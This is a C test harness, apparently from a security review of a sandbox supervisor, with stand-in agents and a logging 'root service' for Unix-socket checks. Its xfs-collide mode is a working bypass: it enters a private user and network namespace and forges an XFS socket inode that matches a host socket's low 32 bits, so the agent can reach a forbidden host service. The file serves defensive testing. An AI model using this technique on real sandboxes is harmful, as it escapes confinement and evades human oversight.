/* ha22-unix.c (hostile review h-attack22): agents and stand-ins for ha22-*.sh.
 *
 *   self PATH          a child binds and listens on PATH (a socket file of
 *       the run's own); the parent connects to it and exchanges a line.
 *   serve PATH MARKER  stand-in root service: listens on PATH (a socket
 *       file, or @NAME), and for every connection writes what it reads to
 *       MARKER (a file the agent cannot write).
 *   netns-connect PATH  from a user+network namespace of its own, connect
 *       to PATH and send a line.
 *   xfs-collide DIR TARGET  XFS, inode64, allocation groups whose inode
 *       numbers pass 2^32: sock_diag reports a socket file's inode number in
 *       32 bits (struct unix_diag_vfs), unixdiag.c compares it with the
 *       64-bit st_ino. The agent (in a user and network namespace of its
 *       own, so the host's listener on TARGET is not in the dump) makes
 *       directories under DIR until one is in an allocation group whose
 *       numbers are 2^32 apart from TARGET's, binds sockets there until
 *       one's st_ino agrees with TARGET's in the low 32 bits, listens on it
 *       from a child, and connects to TARGET.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static socklen_t name_of(struct sockaddr_un *a, const char *p)
{
	memset(a, 0, sizeof(*a));
	a->sun_family = AF_UNIX;
	if (p[0] == '@') {
		memcpy(a->sun_path + 1, p + 1, strlen(p + 1));
		return (socklen_t)(offsetof(struct sockaddr_un, sun_path) + strlen(p));
	}
	snprintf(a->sun_path, sizeof(a->sun_path), "%s", p);
	return (socklen_t)(offsetof(struct sockaddr_un, sun_path) + strlen(p) + 1);
}

static int listen_on(const char *p)
{
	struct sockaddr_un a;
	socklen_t l = name_of(&a, p);
	int s = socket(AF_UNIX, SOCK_STREAM, 0);

	if (s < 0 || bind(s, (struct sockaddr *)&a, l) || listen(s, 16))
		return -1;
	return s;
}

/* A child that listens on s and answers one line per connection. */
static pid_t hold(int s, int secs)
{
	pid_t pid = fork();

	if (pid == 0) {
		alarm(secs);
		for (;;) {
			int c = accept(s, NULL, NULL);
			char buf[256];
			ssize_t n;

			if (c < 0)
				_exit(0);
			n = read(c, buf, sizeof(buf));
			if (n > 0)
				write(c, "own listener\n", 13);
			close(c);
		}
	}
	return pid;
}

static int talk(const char *p, const char *line)
{
	struct sockaddr_un a;
	socklen_t l = name_of(&a, p);
	int s = socket(AF_UNIX, SOCK_STREAM, 0);
	char buf[256];
	ssize_t n;

	if (connect(s, (struct sockaddr *)&a, l) != 0) {
		printf("agent: connect %s: %s\n", p, strerror(errno));
		return 1;
	}
	write(s, line, strlen(line));
	n = read(s, buf, sizeof(buf) - 1);
	buf[n > 0 ? n : 0] = '\0';
	printf("agent: connect %s: ok, answer: %s", p, n > 0 ? buf : "(none)\n");
	close(s);
	return 0;
}

static int do_self(const char *p)
{
	int s = listen_on(p);
	pid_t pid;
	int rc;

	if (s < 0) {
		printf("agent: bind %s: %s\n", p, strerror(errno));
		return 1;
	}
	pid = hold(s, 20);
	close(s);
	rc = talk(p, "hello own\n");
	kill(pid, SIGKILL);
	return rc;
}

static int do_serve(const char *p, const char *marker)
{
	int s = listen_on(p);

	if (s < 0) {
		perror("service: listen");
		return 1;
	}
	printf("service: listening on %s\n", p);
	fflush(stdout);
	for (;;) {
		int c = accept(s, NULL, NULL), m;
		char buf[512];
		ssize_t n;
		struct ucred cr;
		socklen_t cl = sizeof(cr);

		if (c < 0)
			return 1;
		getsockopt(c, SOL_SOCKET, SO_PEERCRED, &cr, &cl);
		n = read(c, buf, sizeof(buf));
		m = open(marker, O_WRONLY | O_CREAT | O_APPEND, 0644);
		if (n > 0) {
			dprintf(m, "service outside the run got from pid %d: %.*s", (int)cr.pid,
				(int)n, buf);
			write(c, "host service\n", 13);
		} else {
			dprintf(
			    m,
			    "service outside the run: a connection from pid %d uid %d, no data\n",
			    (int)cr.pid, (int)cr.uid);
		}
		close(m);
		close(c);
	}
}

static int write_map(const char *f, const char *s)
{
	int fd = open(f, O_WRONLY);
	int ok = fd >= 0 && write(fd, s, strlen(s)) == (ssize_t)strlen(s);

	if (fd >= 0)
		close(fd);
	return ok ? 0 : -1;
}

static int do_xfs(const char *dir, const char *target)
{
	struct stat t, st;
	char d[512], p[600], line[128];
	uint64_t want;
	int s = -1;
	pid_t pid;

	if (stat(target, &t) != 0) {
		perror("agent: stat target");
		return 1;
	}
	want = (uint64_t)t.st_ino;
	printf("agent: host's socket %s: ino %llu (0x%llx)\n", target, (unsigned long long)want,
	       (unsigned long long)want);
	/* A network namespace of our own (through a user namespace uid 0
	 * owns): the host's listener is not in its sock_diag dump. */
	if (unshare(CLONE_NEWUSER | CLONE_NEWNET) != 0) {
		perror("agent: unshare user+net");
		return 1;
	}
	write_map("/proc/self/setgroups", "deny");
	write_map("/proc/self/uid_map", "0 0 1");
	write_map("/proc/self/gid_map", "0 0 1");
	for (int i = 0; i < 4096 && s < 0; i++) {
		snprintf(d, sizeof(d), "%s/d%d", dir, i);
		if (mkdir(d, 0755) != 0 || stat(d, &st) != 0)
			continue;
		/* Another allocation group, its chunk at TARGET's offset. */
		if (((uint64_t)st.st_ino ^ want) >> 32 == 0 ||
		    (uint32_t)want - (uint32_t)st.st_ino > 20000)
			continue;
		printf("agent: %s has ino 0x%llx (another allocation group)\n", d,
		       (unsigned long long)st.st_ino);
		for (int j = 0; j < 20000 && s < 0; j++) {
			struct sockaddr_un a;
			socklen_t l;
			int x;

			snprintf(p, sizeof(p), "%s/s%d", d, j);
			l = name_of(&a, p);
			x = socket(AF_UNIX, SOCK_STREAM, 0);
			if (bind(x, (struct sockaddr *)&a, l) != 0 || stat(p, &st) != 0) {
				close(x);
				break;
			}
			if ((uint32_t)st.st_ino == (uint32_t)want) {
				listen(x, 16);
				s = x;
				printf("agent: %s has ino 0x%llx: the same low 32 bits\n", p,
				       (unsigned long long)st.st_ino);
			} else {
				close(x);
			}
		}
	}
	if (s < 0) {
		printf("agent: no namesake found\n");
		return 1;
	}
	pid = hold(s, 20);
	close(s);
	snprintf(line, sizeof(line), "HA22 from the agent's own network namespace\n");
	talk(target, line);
	kill(pid, SIGKILL);
	return 0;
}

/* From a user and network namespace of our own: a socket file bound in
 * another namespace is not in the dump, so the supervisor probes it. */
static int do_netns_connect(const char *p)
{
	if (unshare(CLONE_NEWUSER | CLONE_NEWNET) != 0) {
		perror("agent: unshare user+net");
		return 1;
	}
	write_map("/proc/self/setgroups", "deny");
	write_map("/proc/self/uid_map", "0 0 1");
	write_map("/proc/self/gid_map", "0 0 1");
	return talk(p, "HA22 probe\n");
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IONBF, 0);
	if (argc == 3 && strcmp(argv[1], "self") == 0)
		return do_self(argv[2]);
	if (argc == 4 && strcmp(argv[1], "serve") == 0)
		return do_serve(argv[2], argv[3]);
	if (argc == 3 && strcmp(argv[1], "netns-connect") == 0)
		return do_netns_connect(argv[2]);
	if (argc == 4 && strcmp(argv[1], "xfs-collide") == 0)
		return do_xfs(argv[2], argv[3]);
	fprintf(stderr, "usage: see the comment at the top\n");
	return 2;
}
